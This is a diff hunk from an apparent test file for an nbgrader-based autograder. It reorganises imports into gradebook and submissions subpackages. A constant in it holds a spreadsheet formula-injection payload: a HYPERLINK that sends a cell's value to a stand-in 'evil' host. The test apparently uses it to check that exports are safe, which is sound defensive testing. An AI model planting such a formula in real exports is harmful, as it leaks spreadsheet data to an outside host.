@@ -14,10 +14,11 @@ import pytest
 from nbgrader.api import Gradebook
 from traitlets.config import Config
 
-from autograder import exercises, export
-from autograder.gradebook import Scores
-from autograder.late import LatePolicy
+from autograder.gradebook import export
+from autograder.gradebook.book import Scores
+from autograder.gradebook.late import LatePolicy
 from autograder.records import FAILED, GRADED, INFRASTRUCTURE_ERROR, PASSED, Report, Result
+from autograder.submissions import exercises
 
 DUE = datetime(2026, 5, 1, 12)
 FORMULA = '=HYPERLINK("http://evil/?"&A1,"Ada")'
